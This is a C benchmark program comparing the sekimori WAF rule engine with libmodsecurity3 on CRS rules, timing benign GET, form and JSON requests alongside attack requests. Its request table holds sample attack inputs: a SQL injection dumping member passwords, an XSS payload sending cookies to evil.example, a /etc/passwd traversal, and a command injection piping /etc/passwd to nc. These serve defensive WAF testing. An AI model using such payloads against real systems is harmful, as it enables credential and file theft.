/* SPDX-License-Identifier: Apache-2.0 */
/*
 * bench/engine: sekimori's rule engine against libmodsecurity3 (Debian's
 * libmodsecurity-dev, through its C API) with the same CRS 3.3.4 files and
 * the same requests, in one run. For each request kind it prints the
 * median CPU microseconds per request of each engine over several rounds
 * and the ratio. With --rss ENGINE it only loads the rules and prints the peak
 * RSS (run once per engine, in separate processes, by bench/engine/run).
 *
 * Both engines get the request line, headers and body and run the request
 * phases and logging; both in blocking mode (SecRuleEngine On).
 *
 * With --vary, every request differs from the one before: a counter is
 * appended to the query string, the User-Agent, Referer and Cookie values
 * and a form body, so that nothing remembered from an earlier identical
 * request (sekimori's cross-transaction memos) helps with those values.
 */
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include "sekimori/waf.h"

struct req {
    const char *name;
    const char *method;
    const char *uri;
    const char *const *headers; /* name, value, ..., NULL */
    const char *body;
    bool attack;
};

static const char *const browser[] = {
    "Host",
    "shop.example.org",
    "User-Agent",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Accept",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
    "image/webp,*/*;q=0.8",
    "Accept-Language",
    "ja,en-US;q=0.9,en;q=0.8",
    "Accept-Encoding",
    "gzip, deflate, br",
    "Referer",
    "https://shop.example.org/products/list.php?category_id=3",
    "Cookie",
    "eccube=8f14e45fceea167a5a36dedd4bea2543; cart_id=2c9a7b1e; lang=ja",
    "Connection",
    "keep-alive",
    NULL};

static const char *const form_headers[] = {
    "Host",
    "shop.example.org",
    "User-Agent",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Accept",
    "text/html,application/xhtml+xml,*/*;q=0.8",
    "Accept-Language",
    "ja,en-US;q=0.9,en;q=0.8",
    "Content-Type",
    "application/x-www-form-urlencoded",
    "Cookie",
    "eccube=8f14e45fceea167a5a36dedd4bea2543; lang=ja",
    "Origin",
    "https://shop.example.org",
    "Referer",
    "https://shop.example.org/donation/input.php",
    NULL};

static const char *const json_headers[] = {
    "Host",
    "shop.example.org",
    "User-Agent",
    "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0",
    "Accept",
    "application/json",
    "Content-Type",
    "application/json",
    "Cookie",
    "eccube=8f14e45fceea167a5a36dedd4bea2543",
    NULL};

/* About 1 KiB, like a donation form. */
static const char form_body[] =
    "name01=Yamada&name02=Taro&kana01=Yamada&kana02=Taro&"
    "email=taro.yamada%40example.jp&email_confirm=taro.yamada%40example.jp&"
    "postal_code=1000001&pref=13&addr01=Chiyoda-ku+Chiyoda&"
    "addr02=1-1+Chiyoda+Building+3F&phone=0312345678&amount=10000&"
    "project=education&payment=credit&anonymous=0&newsletter=1&"
    "message=I+hope+this+donation+helps+the+children+of+the+city+to+learn+"
    "more+about+science+and+nature.+Thank+you+for+your+work+and+for+making+"
    "it+easy+to+give.+Best+regards+from+Osaka%2C+and+see+you+at+the+summer+"
    "festival+next+year.&"
    "consent=1&csrf_token=Zk4xTjJ3U1VwYkZxV2x6b0JQcUdOZ2x0a2JqY3FqRG8&"
    "mode=confirm&plg_campaign=none&plg_point=0&"
    "note=Please+send+the+receipt+to+my+office+address+rather+than+my+home+"
    "address%2C+thank+you.+The+office+is+open+from+9+to+18+on+weekdays.&"
    "referrer=newsletter-2026-06&utm_source=mail&utm_medium=email&"
    "utm_campaign=summer&device=desktop&tz=Asia%2FTokyo";

static const char json_body[] =
    "{\"order\":{\"customer\":{\"name\":\"Taro Yamada\",\"email\":"
    "\"taro@example.jp\",\"points\":120},\"items\":[{\"sku\":\"DN-1000\","
    "\"qty\":1,\"price\":10000},{\"sku\":\"BK-204\",\"qty\":2,\"price\":"
    "1800}],\"note\":\"Gift wrapping, please.\",\"coupon\":null,"
    "\"newsletter\":true}}";

static const struct req reqs[] = {
    {"benign GET", "GET",
     "/products/detail.php?product_id=1234&category_id=3&sort=price_asc"
     "&page=2",
     browser, NULL, false},
    {"benign form POST (1 KiB)", "POST", "/donation/confirm.php", form_headers,
     form_body, false},
    {"JSON POST", "POST", "/api/orders", json_headers, json_body, false},
    {"attack: SQLi", "GET",
     "/products/detail.php?product_id=1%27%20UNION%20SELECT%20"
     "login_id,password%20FROM%20dtb_member--",
     browser, NULL, true},
    {"attack: XSS", "GET",
     "/contact/index.php?name=%3Cscript%3Edocument.location%3D%27http%3A"
     "%2F%2Fevil.example%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
     browser, NULL, true},
    {"attack: LFI", "GET", "/help/index.php?page=..%2F..%2F..%2Fetc%2Fpasswd",
     browser, NULL, true},
    {"attack: RCE", "GET",
     "/search.php?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%20"
     "10.0.0.1%204444",
     browser, NULL, true},
};

/*
 * CPU time of this thread: the machine is shared, and wall-clock time
 * there includes time other tenants took (both engines run in this one
 * thread, so their ratio stays fair either way).
 */
static double
now_us(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return ts.tv_sec * 1e6 + ts.tv_nsec / 1e3;
}

/* ---- --vary ------------------------------------------------------------- */

static bool vary;
static unsigned long vary_n;

struct varied {
    struct req r;
    const char *hv[64];
    char uri[2048], body[8192], hbuf[4][1024];
};

/* `r`, or with --vary a copy in `v` with this request's counter. */
static const struct req *
vary_req(const struct req *r, struct varied *v)
{
    if (!vary)
        return r;
    unsigned long n = ++vary_n;
    v->r = *r;
    snprintf(v->uri, sizeof(v->uri), "%s%s_v=%lu", r->uri,
             strchr(r->uri, '?') ? "&" : "?", n);
    v->r.uri = v->uri;
    size_t k = 0, h = 0;
    bool form = false;
    for (; r->headers[k] != NULL && k + 2 < 64; k += 2) {
        const char *name = r->headers[k], *val = r->headers[k + 1];
        v->hv[k] = name;
        v->hv[k + 1] = val;
        if (strcasecmp(name, "Content-Type") == 0 &&
            strstr(val, "x-www-form-urlencoded") != NULL)
            form = true;
        if (h < 4 && (strcasecmp(name, "User-Agent") == 0 ||
                      strcasecmp(name, "Referer") == 0 ||
                      strcasecmp(name, "Cookie") == 0)) {
            snprintf(v->hbuf[h], sizeof(v->hbuf[h]), "%s%s%lu", val,
                     strcasecmp(name, "Cookie") == 0 ? "; _v=" : " v", n);
            v->hv[k + 1] = v->hbuf[h++];
        }
    }
    v->hv[k] = NULL;
    v->r.headers = v->hv;
    if (r->body != NULL && form) {
        snprintf(v->body, sizeof(v->body), "%s&_v=%lu", r->body, n);
        v->r.body = v->body;
    }
    return &v->r;
}

/* ---- sekimori ----------------------------------------------------------- */

static int
sk_one(const struct sk_waf_rules *rules, const struct req *r)
{
    struct sk_waf_txn *t = sk_waf_txn_new(rules, "bench");
    if (t == NULL)
        return -1;
    sk_waf_txn_connection(t, "192.0.2.10", 51234, "192.0.2.1", 80);
    sk_waf_txn_request_line(t, r->method, strlen(r->method), r->uri,
                            strlen(r->uri), "HTTP/1.1", 8);
    for (size_t i = 0; r->headers[i] != NULL; i += 2)
        sk_waf_txn_request_header(t, r->headers[i], strlen(r->headers[i]),
                                  r->headers[i + 1], strlen(r->headers[i + 1]));
    if (r->body != NULL) {
        char cl[32];
        snprintf(cl, sizeof(cl), "%zu", strlen(r->body));
        sk_waf_txn_request_header(t, "Content-Length", 14, cl, strlen(cl));
    }
    sk_waf_txn_phase(t, 1);
    if (r->body != NULL)
        sk_waf_txn_request_body(t, r->body, strlen(r->body));
    sk_waf_txn_phase(t, 2);
    sk_waf_txn_phase(t, 5);
    struct sk_waf_verdict v;
    sk_waf_txn_verdict(t, &v);
    int denied = v.action != SK_WAF_PASS;
    sk_waf_txn_free(t);
    return denied;
}

/* ---- libmodsecurity3 ---------------------------------------------------- */

static void
msc_quiet(void *data, const void *msg)
{
    (void)data;
    (void)msg;
}

static int
msc_one(ModSecurity *ms, RulesSet *rules, const struct req *r)
{
    Transaction *t = msc_new_transaction(ms, rules, NULL);
    if (t == NULL)
        return -1;
    msc_process_connection(t, "192.0.2.10", 51234, "192.0.2.1", 80);
    msc_process_uri(t, r->uri, r->method, "1.1");
    for (size_t i = 0; r->headers[i] != NULL; i += 2)
        msc_add_request_header(t, (const unsigned char *)r->headers[i],
                               (const unsigned char *)r->headers[i + 1]);
    char cl[32];
    if (r->body != NULL) {
        snprintf(cl, sizeof(cl), "%zu", strlen(r->body));
        msc_add_request_header(t, (const unsigned char *)"Content-Length",
                               (const unsigned char *)cl);
    }
    msc_process_request_headers(t);
    if (r->body != NULL)
        msc_append_request_body(t, (const unsigned char *)r->body,
                                strlen(r->body));
    msc_process_request_body(t);
    ModSecurityIntervention it;
    memset(&it, 0, sizeof(it));
    it.status = 200;
    int denied = msc_intervention(t, &it) && it.status != 200;
    free(it.url);
    free(it.log);
    msc_process_logging(t);
    msc_transaction_cleanup(t);
    return denied;
}

/* ---- driver ------------------------------------------------------------- */

static long
peak_rss_kb(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    long kb = -1;
    if (f == NULL)
        return -1;
    while (fgets(line, sizeof(line), f) != NULL)
        if (strncmp(line, "VmHWM:", 6) == 0)
            kb = strtol(line + 6, NULL, 10);
    fclose(f);
    return kb;
}

static int
cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

int
main(int argc, char **argv)
{
    const char *conf = NULL, *rss = NULL, *only = NULL;
    int iters = 200, rounds = 5, only_req = -1;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--conf") == 0 && i + 1 < argc)
            conf = argv[++i];
        else if (strcmp(argv[i], "--iters") == 0 && i + 1 < argc)
            iters = atoi(argv[++i]);
        else if (strcmp(argv[i], "--rounds") == 0 && i + 1 < argc)
            rounds = atoi(argv[++i]);
        else if (strcmp(argv[i], "--rss") == 0 && i + 1 < argc)
            rss = argv[++i];
        else if (strcmp(argv[i], "--req") == 0 && i + 1 < argc)
            only_req = atoi(argv[++i]); /* one request kind, by index */
        else if (strcmp(argv[i], "--only") == 0 && i + 1 < argc)
            only = argv[++i]; /* profile one engine (perf, callgrind) */
        else if (strcmp(argv[i], "--vary") == 0)
            vary = true;
        else {
            fprintf(stderr, "usage: bench_engine --conf FILE [--iters N] "
                            "[--rounds R] [--rss sekimori|modsecurity] "
                            "[--req K] [--only ENGINE] [--vary]\n");
            return 2;
        }
    }
    if (conf == NULL || iters < 1 || rounds < 1 || rounds > 101) {
        fprintf(stderr, "bench_engine: --conf is required\n");
        return 2;
    }

    struct sk_waf_rules *sk = NULL;
    ModSecurity *ms = NULL;
    RulesSet *mr = NULL;
    const char *which = rss != NULL ? rss : only;
    if (which == NULL || strcmp(which, "sekimori") == 0) {
        sk = sk_waf_rules_new();
        if (sk == NULL || sk_waf_rules_add_file(sk, conf) != 0 ||
            sk_waf_rules_compile(sk) != 0) {
            fprintf(stderr, "sekimori: %s", sk ? sk_waf_rules_errors(sk) : "");
            return 1;
        }
    }
    if (which == NULL || strcmp(which, "modsecurity") == 0) {
        ms = msc_init();
        msc_set_connector_info(ms, "sekimori-bench");
        msc_set_log_cb(ms, msc_quiet);
        mr = msc_create_rules_set();
        const char *err = NULL;
        if (msc_rules_add_file(mr, conf, &err) < 0) {
            fprintf(stderr, "libmodsecurity: %s\n", err ? err : "?");
            return 1;
        }
    }
    if (rss != NULL) {
        /* One warm-up request so that lazily built state is counted. */
        if (sk != NULL)
            sk_one(sk, &reqs[0]);
        if (ms != NULL)
            msc_one(ms, mr, &reqs[0]);
        printf("%s peak RSS: %ld KiB\n", rss, peak_rss_kb());
        return 0;
    }

    printf("%-26s %14s %14s %9s %s\n", "request", "sekimori us", "modsec3 us",
           "ratio", "verdicts (sk/ms)");
    for (size_t k = 0; k < sizeof(reqs) / sizeof(reqs[0]); k++) {
        const struct req *r = &reqs[k];
        if (only_req >= 0 && (size_t)only_req != k)
            continue;
        double sk_r[101], ms_r[101];
        int sk_v = 0, ms_v = 0;
        static struct varied vr;
        for (int w = 0; w < 10; w++) { /* warm caches and JIT stacks */
            if (sk != NULL)
                sk_v = sk_one(sk, vary_req(r, &vr));
            if (ms != NULL)
                ms_v = msc_one(ms, mr, vary_req(r, &vr));
        }
        for (int round = 0; round < rounds; round++) {
            double t0 = now_us();
            for (int i = 0; sk != NULL && i < iters; i++)
                sk_one(sk, vary_req(r, &vr));
            double t1 = now_us();
            /* libmodsecurity is slower: fewer iterations, same rounds. */
            int miters = iters / 10 > 0 ? iters / 10 : 1;
            for (int i = 0; ms != NULL && i < miters; i++)
                msc_one(ms, mr, vary_req(r, &vr));
            double t2 = now_us();
            sk_r[round] = (t1 - t0) / iters;
            ms_r[round] = (t2 - t1) / miters;
        }
        qsort(sk_r, (size_t)rounds, sizeof(double), cmp_double);
        qsort(ms_r, (size_t)rounds, sizeof(double), cmp_double);
        double a = sk_r[rounds / 2], b = ms_r[rounds / 2];
        printf("%-26s %14.1f %14.1f %8.1fx %s/%s\n", r->name, a, b, b / a,
               sk_v ? "deny" : "pass", ms_v ? "deny" : "pass");
    }
    sk_waf_rules_free(sk);
    msc_rules_cleanup(mr);
    msc_cleanup(ms);
    return 0;
}
